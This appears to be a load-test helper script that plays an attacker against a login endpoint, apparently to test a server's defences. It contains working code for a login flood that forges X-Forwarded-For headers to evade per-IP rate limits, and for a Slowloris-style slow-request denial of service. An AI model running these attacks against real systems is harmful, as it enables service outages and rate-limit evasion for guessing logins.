"""The attackers' machine, a process of its own: `python flooding.py log-ins|slow URL COUNT SECONDS`.

Beside the bystander in one process they would slow down the watch, and not only the watched.
"""

import asyncio
import json
import sys
import time
from collections import Counter
from collections.abc import Sequence
from urllib.parse import urlsplit

import aiohttp


async def log_ins(url: str, count: int) -> None:
    """Strangers, each from an address of their own, at the same moment. Prints how many got which status."""
    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=0)) as http:
        answers = Counter(await asyncio.gather(*(_log_in(url, http, number) for number in range(count))))
    print(json.dumps(answers))  # noqa: T201 - its parent reads it


async def _log_in(url: str, http: aiohttp.ClientSession, number: int) -> int:
    body = {"username": f"person{number}", "password": "a long guess"}
    headers = {"X-Forwarded-For": f"198.{18 + number // 250}.{number % 250}.1"}
    async with http.post(f"{url}/api/v1/sessions", json=body, headers=headers) as answer:
        await answer.read()
        return answer.status


async def slow(url: str, count: int, seconds: float) -> None:
    """Requests that begin and never end, half of them in their headers, half in their body: a byte a second each."""
    writers = [await _begun(url, number) for number in range(count)]
    print(json.dumps(len(writers)), flush=True)  # noqa: T201 - its parent reads it
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for writer in writers:
            writer.write(b"x")
            await asyncio.sleep(1 / count)


async def _begun(url: str, number: int) -> asyncio.StreamWriter:
    address = urlsplit(url)
    _, writer = await asyncio.open_connection(address.hostname, address.port)
    writer.write(b"POST /api/v1/sessions HTTP/1.1\r\nHost: x\r\n")
    if number % 2:
        writer.write(b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n{")
    return writer


def main(arguments: Sequence[str]) -> None:
    """Do as the arguments say."""
    kind, url, count, seconds = arguments
    asyncio.run(log_ins(url, int(count)) if kind == "log-ins" else slow(url, int(count), float(seconds)))


if __name__ == "__main__":
    main(sys.argv[1:])
